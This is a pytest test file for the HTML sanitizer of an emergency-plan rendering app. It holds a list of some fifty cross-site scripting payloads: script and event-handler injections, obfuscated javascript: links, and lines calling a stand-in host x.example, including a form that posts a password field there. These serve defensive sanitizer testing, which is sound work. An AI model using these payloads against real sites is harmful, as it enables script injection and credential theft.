"""Render a plan: what a clerk writes is shown, and nothing in it can run."""

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from factories import ROOT, a_body
from nanhua_emergency.plans.limits import tidy_body
from nanhua_emergency.plans.rendering import Rendered, render

# Written a second time on purpose, against the lists that the cleaner is given.
TAGS = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "strong", "em", "code", "pre", "blockquote",
    "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "div", "span", "dl", "dt", "dd",
}  # fmt: skip
ATTRIBUTES = {
    "id",
    "href",
    "title",
    "start",
    "data-label",
    "scope",
    "data-reference",
    "class",
    "rel",
}
# What the page itself sets on the box around a table, and nobody's text.
OF_TABLE_BOX = {"tabindex", "role", "aria-label"}
SCHEMES = {"http", "https", "mailto", "tel"}
# As browsers read an address: signs below the space are dropped at its start, and tabs and line
# ends anywhere.
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.IGNORECASE)
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//x.example><input name=password><button>提交</button></form>",
    "<a href=javascript:alert(1)>点</a>",
    "<a href='JaVaScRiPt:alert(1)'>点</a>",
    "<a href='java\tscript:alert(1)'>点</a>",
    "<a href='&#106;avascript:alert(1)'>点</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>点</a>",
    "<p style='background:url(javascript:1)'>红</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<base href=//x.example/>",
    "<div onclick=alert(1) onmouseover=alert(1)>点</div>",
    "<details open ontoggle=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[点](javascript:alert(1))",
    "[点](JAVASCRIPT:alert(1))",
    "[点](java&#x09;script:alert(1))",
    "[点](&#x6A;avascript:alert(1))",
    "[点](vbscript:alert(1))",
    "[点](data:text/html,<script>alert(1)</script>)",
    '[点](https://x.example/" onclick="alert(1))',
    "[点](https://x.example '\" onclick=\"alert(1)')",
    "![图](javascript:alert(1))",
    '![图](x "" onerror=alert(1))',
    "[点]: javascript:alert(1)\n\n[点]",
    "<javascript:alert(1)>",
    "点{: onclick=alert(1) style=color:red }",
    "## 标题 {: onclick=alert(1) }",
    "## 标题 {: #main .button style=color:red onmouseover=alert(1) }",
    "段落\n{: #main }",
    "| 表 |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "``` {.python onclick=alert(1)}\nx\n```",
    '!!! note "<img src=x onerror=alert(1)>"\n    文',
    '!!! "x onclick=alert(1)"\n    文',
    "{{岗位:<img src=x onerror=alert(1)>}}",
    "{{名录:物资|类别=<script>alert(1)</script>}}",
    "`<script>alert(1)</script>`",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '| "><script>alert(1)</script> | " onfocus="alert(1) |\n| --- | --- |\n| 甲 | 乙 |',
    '<div class="table-scroll" tabindex=0 role=alert aria-label=点>点</div>',
]


def show(body: str) -> BeautifulSoup:
    return BeautifulSoup(render(tidy_body(body)).html, "html.parser")


def assert_harmless(rendered: Rendered) -> None:
    """No tag, attribute or address but those that cannot run; ids on headings only."""
    page = BeautifulSoup(rendered.html, "html.parser")
    for tag in page.find_all(True):
        assert tag.name in TAGS, tag
        of_box = OF_TABLE_BOX if "table-scroll" in tag.get("class", ()) else set()
        assert set(tag.attrs) <= ATTRIBUTES | of_box, tag
        assert "id" not in tag.attrs or tag.name in {"h1", "h2", "h3", "h4", "h5", "h6"}, tag
        scheme = SCHEME.match(re.sub(r"[\t\r\n]", "", tag.attrs.get("href", "")))
        assert scheme is None or scheme[1].lower() in SCHEMES, tag
    assert not page.find_all(string=lambda text: type(text).__name__ == "Comment")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "- {}", "> {}", "## {}", "| 甲 |\n| --- |\n| {} |", "**{}**"]
)
def test_it_lets_nothing_through_that_could_run(payload: str, frame: str) -> None:
    assert_harmless(render(tidy_body(frame.format(payload) if frame != "{}" else payload)))


MARKS = st.sampled_from([
    "<", ">", "/", '"', "'", "=", "&", "#", ";", "`", "*", "_", "[", "]", "(", ")", "!", "|", "-",
    "\n", "\n\n", "    ", "{", "}", "{:", "{{岗位:", "}}", "script", "img", "svg", " onerror=",
    "javascript:", "data:", " href=", " style=", " id=", "\\", "\t", "## ", "```", "!!! note", "汉字",
    "\x02", "\x03", "&#x6A;", "<!--", "-->",
])  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(MARKS, max_size=40).map("".join))
def test_it_is_harmless_whatever_is_written(body: str) -> None:
    assert_harmless(render(tidy_body(body)))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_it_shows_any_text_without_failing(body: str) -> None:
    assert_harmless(render(tidy_body(body)))


@pytest.mark.parametrize("path", sorted((ROOT / "plans").glob("*.md")), ids=lambda path: path.stem)
def test_it_shows_every_plan_of_the_town(path: object) -> None:
    rendered = render(a_body(path.stem))
    assert_harmless(rendered)
    page = BeautifulSoup(rendered.html, "html.parser")
    anchors = [heading["id"] for heading in page.select("h2, h3")]
    assert [heading.anchor for heading in rendered.contents] == anchors
    assert len(anchors) == len(set(anchors))
    assert "{{" not in page.get_text()
    assert "|" not in page.get_text()


def test_it_gives_ids_to_headings_only() -> None:
    page = show("## 1 总则 {: #general }\n\n段落\n{: #paragraph }\n\n### 1.1 目的\n\n## 1 总则\n")
    assert [tag["id"] for tag in page.select("[id]")] == ["general", "11-目的", "1-总则"]


def test_it_takes_a_list_right_after_a_line() -> None:
    page = show("村里先做：\n- 敲锣\n- 敲门\n\n再做：\n1. 点名\n2. 上报")
    assert [p.get_text() for p in page.select("p")] == ["村里先做：", "再做："]
    assert [li.get_text() for li in page.select("ul > li")] == ["敲锣", "敲门"]
    assert [li.get_text() for li in page.select("ol > li")] == ["点名", "上报"]


def test_it_takes_a_table_right_after_a_line() -> None:
    page = show("级别如下：\n| 级别 | 谁 |\n| --- | --- |\n| 红色 | 镇长 |")
    assert page.select_one("p").get_text() == "级别如下："
    assert [cell.get_text() for cell in page.select("td")] == ["红色", "镇长"]


def test_it_nests_by_two_spaces() -> None:
    page = show("- 一\n  - 一之一\n    - 一之一之一\n- 二")
    assert [li.get_text().split("\n")[0].strip() for li in page.select("ul ul ul > li")] == [
        "一之一之一"
    ]
    assert len(page.select("ul")[0].find_all("li", recursive=False)) == 2


def test_it_leaves_code_as_it_is() -> None:
    page = show("```text\n甲\n- 乙\n| 丙 |\n```")
    assert page.select_one("pre").get_text().strip() == "甲\n- 乙\n| 丙 |"
    assert not page.select("ul, table")


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("{{岗位:防汛指挥长}}", "防汛指挥长"),
        ("{{ 岗位：防汛指挥长 }}", "防汛指挥长"),
        ("{{名录:物资|类别=防汛}}", "物资"),
        ("{{名录:救援队伍}}", "救援队伍"),
    ],
)
def test_it_shows_references_by_name(written: str, shown: str) -> None:
    assert show(f"通知{written}。").select_one("span.reference").get_text() == shown
    assert show(f"通知{written}。").get_text().strip() == f"通知{shown}。"


@pytest.mark.parametrize("bar", ["|", "\\|", "｜"])
def test_it_shows_a_reference_with_a_filter_inside_a_table(bar: str) -> None:
    page = show(
        f"| 谁 | 用什么 |\n| --- | --- |\n| {{{{岗位:村主任}}}} | {{{{名录:物资{bar}类别=防汛}}}} |"
    )
    assert [cell.get_text() for cell in page.select("td")] == ["村主任", "物资"]


def test_it_leaves_a_reference_in_code_as_written() -> None:
    assert show("写成 `{{岗位:村主任}}`。").select_one("code").get_text() == "{{岗位:村主任}}"


@pytest.mark.parametrize(
    ("word", "colour"), [("蓝色", "blue"), ("黄色", "yellow"), ("橙色", "orange"), ("红色", "red")]
)
def test_it_colours_the_names_of_levels(word: str, colour: str) -> None:
    page = show(f"| 级别 | 启动条件 |\n| --- | --- |\n| {word} | {word}预警发布 |")
    assert [span.get_text() for span in page.select(f"td span.level-{colour}")] == [word]


def test_it_labels_each_cell_with_its_column() -> None:
    page = show("| 时间 | 谁 | **做什么** |\n| --- | --- | --- |\n| 0—5 分钟 | 值班员 | 记下 |")
    assert [cell["data-label"] for cell in page.select("td")] == ["时间", "谁", "做什么"]
    assert page.select_one("div.table-scroll > table")


def test_it_has_tables_that_the_keyboard_can_scroll_and_that_are_called_by_their_columns() -> None:
    first = '| "时" & **间** | 谁 |\n| --- | --- |\n| 0—5 分钟 | 值班员 |'
    page = show(f"{first}\n\n一段\n\n| | 电话 |\n| --- | --- |\n| 县 | 119 |")
    groups = page.select("div.table-scroll[tabindex='0'][role=group] > table")
    assert [one.parent["aria-label"] for one in groups] == ['表格："时" & 间、谁', "表格：电话"]
    assert [one.get_text() for one in page.select("td")] == ["0—5 分钟", "值班员", "县", "119"]


def test_it_opens_foreign_addresses_without_telling_where_from() -> None:
    link = show("[县政府](https://example.com/a)").a
    assert link["href"] == "https://example.com/a"
    assert set(link["rel"]) == {"noopener", "noreferrer"}
    assert show("[拨打](tel:12379)").a["href"] == "tel:12379"
